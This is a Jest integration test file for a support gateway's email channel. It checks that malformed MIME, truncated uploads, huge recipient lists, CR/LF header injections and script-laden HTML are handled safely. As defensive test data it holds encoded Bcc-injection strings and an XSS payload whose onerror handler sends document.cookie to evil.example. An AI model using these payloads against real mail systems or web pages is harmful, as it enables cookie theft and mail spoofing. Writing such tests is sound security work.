import { startGateway, Gateway, eventually } from '../../helpers/gateway';
import { startSmtpSink, SmtpSink } from '../../fakes/smtp-sink';
import { startEmailListener } from '../../../src/channels/email';
import type { SmtpListener } from '../../../src/channels/email/smtp.listener';
import { conversationOfMail, conversationView, customerAddress, emailEnv, INBOUND_SECRET, multipart, newMessageId, smtpSend, storedMail, SUPPORT, supervisor } from './mail.helpers';

describe('email: hostile and broken input is stored safely', () => {
  let gw: Gateway;
  let sink: SmtpSink;
  let smtp: SmtpListener;
  beforeAll(async () => {
    sink = await startSmtpSink();
    gw = await startGateway('email-bad', { env: emailEnv({ EMAIL_TRANSPORT: 'smtp', SMTP_RELAY_URL: sink.url }) });
    smtp = await startEmailListener(gw.infra, gw.services, { port: 0, host: '127.0.0.1' });
  });
  afterAll(async () => {
    await smtp?.close();
    await gw?.close();
    await sink?.close();
  });

  const mailsTo = (address: string) => sink.mails.filter((m) => m.envelope.to.includes(address));

  it('when the MIME structure is broken, then the listener accepts it, keeps what it can read, and the gateway keeps working', async () => {
    const from = customerAddress();
    const messageId = newMessageId();
    const raw = Buffer.from(
      [
        `From: ${from}`,
        `To: ${SUPPORT}`,
        'Subject: =?utf-8?B?not-base64!!?=',
        `Message-ID: ${messageId}`,
        'Content-Type: multipart/alternative; boundary="missing"',
        'Content-Transfer-Encoding: base64',
        '',
        '--wrong-boundary',
        'Content-Type: text/html; charset=does-not-exist',
        '',
        '<p>half a tag <b',
        '=?=?=\u0000\u0001',
      ].join('\r\n'),
      'latin1',
    );
    const info = await smtpSend(smtp.port, { envelope: { from, to: [SUPPORT] }, raw });
    expect(info.accepted).toEqual([SUPPORT]);
    expect(await conversationOfMail(gw, messageId)).toEqual(expect.any(String));
    await gw.http.get('/healthz').expect(200);
  });

  it('when a SendGrid post is cut off inside an attachment, then it gets 400, nothing is stored and the gateway keeps working', async () => {
    const messageId = newMessageId();
    const boundary = 'xYzZYcutoff';
    const body = Buffer.from(
      [
        `--${boundary}`,
        'Content-Disposition: form-data; name="headers"',
        '',
        `Message-ID: ${messageId}`,
        `--${boundary}`,
        'Content-Disposition: form-data; name="attachment1"; filename="bill.pdf"',
        'Content-Type: application/pdf',
        '',
        '%PDF-1.4 half a file and no closing boundary',
      ].join('\r\n'),
    );
    const res = await gw.http.post(`/email/inbound?secret=${INBOUND_SECRET}`).set('Content-Type', `multipart/form-data; boundary=${boundary}`).send(body);
    expect(res.status).toBe(400);
    expect(await storedMail(gw, messageId)).toBeFalsy();
    await gw.http.get('/healthz').expect(200);
  });

  it('when a header lists 10,000 recipients, then the mail is stored with a bounded list and only the sender gets our answer', async () => {
    const from = customerAddress();
    const messageId = newMessageId();
    const many = Array.from({ length: 10000 }, (_, i) => `victim${i}@else.example`).join(', ');
    const raw = Buffer.from(`From: ${from}\r\nTo: ${SUPPORT}, ${many}\r\nCc: ${many}\r\nSubject: Technician never came\r\nMessage-ID: ${messageId}\r\n\r\nNobody came to install the fibre.\r\n`);
    await smtpSend(smtp.port, { envelope: { from, to: [SUPPORT] }, raw });
    const stored = await eventually(async () => (await storedMail(gw, messageId)) ?? undefined);
    expect(stored.to.length).toBeLessThanOrEqual(100);
    expect(stored.cc.length).toBeLessThanOrEqual(100);
    const [ack] = await eventually(async () => (mailsTo(from).length ? mailsTo(from) : undefined), 8000);
    expect(ack.envelope.to).toEqual([from]);
    expect(sink.mails.some((m) => m.envelope.to.some((a) => a.includes('victim')))).toBe(false);
  });

  it('when the subject and the sender name carry encoded CR/LF header injections, then our reply has no injected header and reaches only the sender', async () => {
    const from = customerAddress();
    const messageId = newMessageId();
    const evilSubject = Buffer.from('Help\r\nBcc: victim@else.example\r\nX-Injected: yes').toString('base64');
    const evilName = Buffer.from('Eve\r\nBcc: victim@else.example').toString('base64');
    const raw = Buffer.from(
      `From: =?utf-8?B?${evilName}?= <${from}>\r\nTo: ${SUPPORT}\r\nSubject: =?utf-8?B?${evilSubject}?=\r\nMessage-ID: ${messageId}\r\n\r\nTechnician never came.\r\n`,
    );
    await smtpSend(smtp.port, { envelope: { from, to: [SUPPORT] }, raw });
    const conversationId = (await conversationOfMail(gw, messageId)) ?? '';
    const [ack] = await eventually(async () => (mailsTo(from).length ? mailsTo(from) : undefined), 8000);
    expect(ack.envelope.to).toEqual([from]);
    expect(ack.parsed.headers.has('x-injected')).toBe(false);
    expect(ack.parsed.bcc).toBeUndefined();
    expect(ack.raw).not.toMatch(/^(Bcc|X-Injected):/im);

    // An operator whose display name tries the same trick.
    const op = await gw.login(['operator'], 'Mallory\r\nBcc: victim@else.example');
    const auth = { Authorization: `Bearer ${op.token}` };
    const queue = await gw.http.get('/api/escalations?status=queued').set(auth).expect(200);
    const e = queue.body.find((x: { conversationId: string }) => x.conversationId === conversationId);
    await gw.http.post(`/api/escalations/${e.id}/claim`).set(auth).expect(200);
    await gw.http.post(`/api/conversations/${conversationId}/messages`).set(auth).send({ text: 'We are on it.' }).expect(201);
    const replies = await eventually(async () => (mailsTo(from).length >= 2 ? mailsTo(from) : undefined), 8000);
    expect(replies[1].envelope.to).toEqual([from]);
    expect(replies[1].raw).not.toMatch(/^Bcc:/im);
    expect(replies[1].parsed.from?.value[0].name).toBe('Mallory Bcc: victim@else.example (Vala Telecom)');
  });

  it('when SendGrid posts HTML full of scripts and event handlers, then the operator sees sanitised HTML and plain text only', async () => {
    const from = customerAddress();
    const messageId = newMessageId();
    const html = '<p>Hello</p><img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)"><script>document.location="https://evil.example"</script><svg><script>alert(1)</script></svg><a href="data:text/html;base64,PHNjcmlwdD4=">x</a>';
    const { body, contentType } = multipart([
      { name: 'headers', value: `From: ${from}\nTo: ${SUPPORT}\nSubject: Script test\nMessage-ID: ${messageId}\n` },
      { name: 'from', value: from },
      { name: 'to', value: SUPPORT },
      { name: 'subject', value: 'Script test' },
      { name: 'html', value: html },
      { name: 'envelope', value: JSON.stringify({ to: [SUPPORT], from }) },
      { name: 'charsets', value: JSON.stringify({ html: 'UTF-8' }) },
    ]);
    const res = await gw.http.post(`/email/inbound?secret=${INBOUND_SECRET}`).set('Content-Type', contentType).send(body).expect(200);
    const auth = await supervisor(gw);
    const mails = await gw.http.get(`/api/email/conversations/${res.body.conversationId}`).set(auth).expect(200);
    const stored: string = mails.body.mails[0].html;
    expect(stored).not.toMatch(/<script|onerror|<svg|data:text|document\./i);
    const view = await conversationView(gw, res.body.conversationId, auth);
    expect(view.messages.find((m) => m.direction === 'in')?.text).not.toMatch(/script|document|evil/);
  });

  it('when an inbound post is not multipart at all, then it is refused with 400 and nothing breaks', async () => {
    await gw.http.post(`/email/inbound?secret=${INBOUND_SECRET}`).set('Content-Type', 'application/json').send({ from: 'x' }).expect(400);
    const { body, contentType } = multipart([{ name: 'nothing', value: 'here' }]);
    await gw.http.post(`/email/inbound?secret=${INBOUND_SECRET}`).set('Content-Type', contentType).send(body).expect(400);
  });
});
